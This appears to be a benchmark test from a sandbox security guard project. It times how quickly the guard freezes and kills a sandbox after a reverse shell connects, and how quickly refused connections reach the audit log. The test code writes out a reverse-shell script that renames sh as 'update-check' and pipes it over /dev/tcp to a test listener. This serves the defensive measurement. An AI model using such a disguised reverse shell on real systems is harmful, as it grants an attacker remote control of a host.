/**
 * The containment figures: how long a reverse shell lives after its
 * connect(), and how long a refused connection takes to reach the audit log.
 *
 * A guard of this build runs on a private socket and scope (the host's guard
 * is left alone), watching only this run's sandboxes, with its audit log in a
 * temporary directory. The attacks are real and aimed at the dead-end
 * namespace only: a reverse shell to a listener on 198.51.100.2 (a copy of sh
 * renamed `update-check`, caught by behaviour alone, so the clock starts at
 * the connection and not at a command line), a refused connection to
 * 10.99.0.2. All times are the one host clock: the listener's accept, the
 * guard's `frozenAt`, the perl client's stamp just before its connect().
 *
 * Baselines, measured in the same run on a plain container: the bare Incus
 * freeze (`incus pause`) and force stop, what a person at a terminal would
 * type once they noticed.
 */
import { ChildProcess, spawn, spawnSync } from 'node:child_process';
import { randomBytes, randomInt } from 'node:crypto';
import { copyFileSync, existsSync, mkdirSync, openSync, readFileSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { GuardClient } from '../helper/guard/client';
import { FILTER_FAMILY, INGRESS_FAMILY, tablesFor } from '../helper/guard/network/names';
import type { IncusClient } from '../helper/incus/client';
import type { GuardEvent, ThreatRecord } from '../helper/protocol/methods';
import { tmuxSession } from '../helper/sandbox/naming';
import { DEAD_END_HOSTS, SETUP_NAMES } from '../helper/setup/names';

export interface ContainmentSample {
  connectToFrozen: number[];
  connectToStopped: number[];
  refusedToAuditLine: number[];
  incusFreeze: number[];
  incusStop: number[];
  pollIntervalMs: number;
}

export interface ContainmentDeps {
  incus: IncusClient;
  helper: string;
  prefix: string;
  root: string;
  runs: number;
  coi: (args: string[], env: NodeJS.ProcessEnv, cwd: string) => Promise<{ code: number; stdout: string; stderr: string }>;
  log: (line: string) => void;
}

const TARGET = DEAD_END_HOSTS.internet;
const REFUSED = DEAD_END_HOSTS.private;
const POLL_MS = 250;

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function waitFor<T>(what: string, f: () => T | undefined | Promise<T | undefined>, timeoutMs: number, everyMs = 5): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const v = await f();
    if (v !== undefined) return v;
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await sleep(everyMs);
  }
}

/** A listener in the dead-end namespace: the time of the first accepted connection per port. */
function listen(ports: number[], accepted: Map<number, number>): Promise<ChildProcess> {
  const script = `
    const net = require('net');
    let up = 0;
    for (const port of ${JSON.stringify(ports)}) {
      net.createServer((s) => { s.on('error', () => {}); console.log(JSON.stringify({ port, t: Date.now() })); })
        .listen(port, ${JSON.stringify(TARGET)}, () => { if (++up === ${ports.length}) console.log('{"ready":true}'); });
    }
    setTimeout(() => process.exit(0), 170000);`;
  const child = spawn('ip', ['netns', 'exec', SETUP_NAMES.deadEndNamespace, process.execPath, '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
  return new Promise((resolve, reject) => {
    let buf = '';
    const t = setTimeout(() => reject(new Error('the listener did not come up')), 10_000);
    child.stdout!.on('data', (d: Buffer) => {
      buf += d.toString();
      const lines = buf.split('\n');
      buf = lines.pop() ?? '';
      for (const l of lines) {
        const m = JSON.parse(l) as { ready?: boolean; port?: number; t?: number };
        if (m.ready) {
          clearTimeout(t);
          resolve(child);
        }
        if (m.port && m.t && !accepted.has(m.port)) accepted.set(m.port, m.t);
      }
    });
  });
}

export async function measureContainment(d: ContainmentDeps): Promise<ContainmentSample> {
  const scope = `bc${randomBytes(3).toString('hex')}`;
  const socketPath = path.join(d.root, 'guard.sock');
  const auditDir = path.join(d.root, 'audit');
  const home = path.join(d.root, 'home-monitor');
  mkdirSync(path.join(home, '.coi'), { recursive: true });
  mkdirSync(auditDir, { recursive: true });
  writeFileSync(path.join(home, '.coi', 'config.toml'), '[container]\nimage = "coi-base"\n\n[tool]\nname = "shell"\n\n[monitoring]\nenabled = true\n');
  const env = { HOME: home, COI_CONTAINER_PREFIX: d.prefix, COI_GUARD_SOCKET: socketPath, COI_GUARD_SCOPE: scope };
  const port0 = randomInt(41_000, 48_000);
  const ports = Array.from({ length: d.runs }, (_, i) => port0 + i);
  const accepted = new Map<number, number>();
  const out: ContainmentSample = { connectToFrozen: [], connectToStopped: [], refusedToAuditLine: [], incusFreeze: [], incusStop: [], pollIntervalMs: POLL_MS };

  const listener = await listen(ports, accepted);
  const logFd = openSync(path.join(d.root, 'guard.log'), 'a');
  const guard = spawn(process.execPath, [d.helper, 'guard', 'run'], {
    env: { ...process.env, COI_GUARD_SOCKET: socketPath, COI_GUARD_SCOPE: scope, COI_NET_STATE_DIR: path.join(d.root, 'net'), COI_NET_CACHE_DIR: path.join(d.root, 'net-cache'), COI_GUARD_MONITOR_PREFIX: d.prefix, COI_AUDIT_DIR: auditDir },
    stdio: ['ignore', logFd, logFd],
  });
  const client = new GuardClient({ socketPath, reconnect: true });
  const threats: Array<{ container: string; record: ThreatRecord }> = [];
  client.on('event', (e: GuardEvent) => {
    if (e.topic === 'threat') threats.push({ container: e.event.container, record: e.event.record });
  });
  const of = (name: string) => threats.filter((t) => t.container === name).map((t) => t.record);
  const type = async (name: string, text: string) => {
    for (const keys of [['-l', text], ['Enter']]) {
      const r = await d.incus.exec(name, ['tmux', 'send-keys', '-t', tmuxSession(name), ...keys], { user: 1000, group: 1000, env: { HOME: '/home/code', USER: 'code' } });
      if (r.exitCode !== 0) throw new Error(`tmux send-keys in ${name}: ${r.stderr}`);
    }
  };
  try {
    await client.subscribe(['threat']);
    client.connect({ timeoutMs: 1_000 }).catch(() => undefined);
    await client.waitConnected(20_000);

    // One sandbox per reverse shell (each is killed), one more for the refused connections (paused, resumed).
    const launch = async (i: number) => {
      const ws = path.join(d.root, `ws-c${i}`);
      mkdirSync(ws, { recursive: true });
      const r = await d.coi(['shell', '--background', '--workspace', ws], env, ws);
      if (r.code !== 0) throw new Error(`coi shell: ${r.stderr}`);
      const name = r.stdout.trim();
      await waitFor(`${name} to be watched`, () => of(name).find((x) => x.title === 'Monitoring started'), 30_000, 50);
      return { name, ws };
    };
    const boxes: Array<{ name: string; ws: string }> = [];
    // Three at a time: all at once would be a launch storm on a small machine; one at a time, slow.
    for (let i = 0; i <= d.runs; i += 3) boxes.push(...(await Promise.all([i, i + 1, i + 2].filter((k) => k <= d.runs).map(launch))));
    const refusedBox = boxes.pop()!;
    await sleep(1_000);

    for (const [i, box] of boxes.entries()) {
      const port = ports[i]!;
      writeFileSync(path.join(box.ws, 'uc.sh'), `cp /bin/sh /tmp/update-check\nexec 3<>/dev/tcp/${TARGET}/${port}\nexec /tmp/update-check <&3 >&3 2>&3\n`);
      await type(box.name, 'bash /workspace/uc.sh');
      const crit = await waitFor(`the CRITICAL of ${box.name}`, () => of(box.name).find((r) => r.level === 'critical'), 20_000);
      const killed = await waitFor(`${box.name} killed`, () => of(box.name).find((r) => r.title === 'Sandbox killed'), 30_000);
      const connect = accepted.get(port);
      const frozenAt = Date.parse(crit.response?.frozenAt ?? '');
      const stoppedMs = Number((killed.evidence as { stoppedMs?: unknown }).stoppedMs);
      if (connect === undefined || !Number.isFinite(frozenAt) || !Number.isFinite(stoppedMs)) {
        d.log(`  (run ${i}: no connect time or freeze time: ${crit.evidence.rule})`);
        continue;
      }
      out.connectToFrozen.push(frozenAt - connect);
      out.connectToStopped.push(frozenAt + stoppedMs - connect);
    }

    // Refused connections: a new port each time (the de-duplicator folds a repeat within 30 s).
    const auditFile = path.join(auditDir, `${refusedBox.name}.jsonl`);
    for (let i = 0; i < d.runs; i++) {
      const port = 20_000 + i;
      const stamp = `r${i}.t`;
      await type(refusedBox.name, `perl -MTime::HiRes=time -MIO::Socket::INET -e 'printf "%d\\n", time()*1000; IO::Socket::INET->new(PeerAddr => "${REFUSED}:${port}", Timeout => 2)' > /workspace/${stamp}`);
      const line = await waitFor(`the audit line of the refused connection ${i}`, () => {
        if (!existsSync(auditFile)) return undefined;
        const seenAt = Date.now();
        const hit = readFileSync(auditFile, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as ThreatRecord).find((r) => r.evidence.network?.port === port);
        return hit ? { hit, seenAt } : undefined;
      }, 20_000);
      if (line.hit.action === 'paused') {
        // Incus's record of the freeze follows the cgroup's; resuming before it lands would be undone by it.
        await waitFor(`${refusedBox.name} to be Frozen for Incus`, async () => ((await d.incus.getState(refusedBox.name)).status === 'Frozen' ? true : undefined), 15_000, 50);
        const r = await d.coi(['resume', refusedBox.name], env, refusedBox.ws);
        if (r.code !== 0) throw new Error(`coi resume: ${r.stderr}`);
      }
      // perl writes its stamp when it exits, after the thaw.
      const sent = await waitFor(`the stamp of run ${i}`, () => {
        const text = existsSync(path.join(refusedBox.ws, stamp)) ? readFileSync(path.join(refusedBox.ws, stamp), 'utf8').trim() : '';
        return /^\d+$/.test(text) ? Number(text) : undefined;
      }, 10_000, 20);
      out.refusedToAuditLine.push(line.seenAt - sent);
    }

    // Baselines: the bare Incus freeze and force stop of a plain running container.
    const raw = `${d.prefix}cbase`;
    await d.incus.createInstance({ name: raw, source: { type: 'image', alias: SETUP_NAMES.baseImage }, start: true }, { timeoutMs: 120_000 });
    await d.incus.exec(raw, ['true']);
    for (let i = 0; i < d.runs; i++) {
      let t = performance.now();
      await d.incus.setState(raw, 'freeze');
      out.incusFreeze.push(performance.now() - t);
      await d.incus.setState(raw, 'unfreeze');
      if (i < 3) {
        t = performance.now();
        await d.incus.setState(raw, 'stop', { force: true });
        out.incusStop.push(performance.now() - t);
        await d.incus.setState(raw, 'start');
        await d.incus.exec(raw, ['true']);
      }
    }
  } finally {
    client.close();
    // Sandboxes first, while the guard still runs, so it takes their rules away; then its (empty) tables:
    // a stopped guard leaves its rules in place, and a stale id in them would judge another run's packets.
    for (const i of await d.incus.listInstances().catch(() => [])) if (i.name.startsWith(d.prefix)) await d.incus.deleteInstance(i.name, { force: true }).catch(() => undefined);
    await sleep(1_000);
    guard.kill('SIGTERM');
    await Promise.race([new Promise((r) => guard.once('exit', r)), sleep(5_000)]);
    if (guard.exitCode === null && guard.signalCode === null) guard.kill('SIGKILL');
    listener.kill('SIGKILL');
    const tables = tablesFor(scope);
    spawnSync('nft', ['delete', 'table', FILTER_FAMILY, tables.filter], { stdio: 'ignore' });
    spawnSync('nft', ['delete', 'table', INGRESS_FAMILY, tables.ingress], { stdio: 'ignore' });
    // Kept for a look after a failure: the bench's directory goes away.
    try {
      copyFileSync(path.join(d.root, 'guard.log'), '/tmp/coi-bench-containment-guard.log');
    } catch {
      // no log
    }
  }
  return out;
}
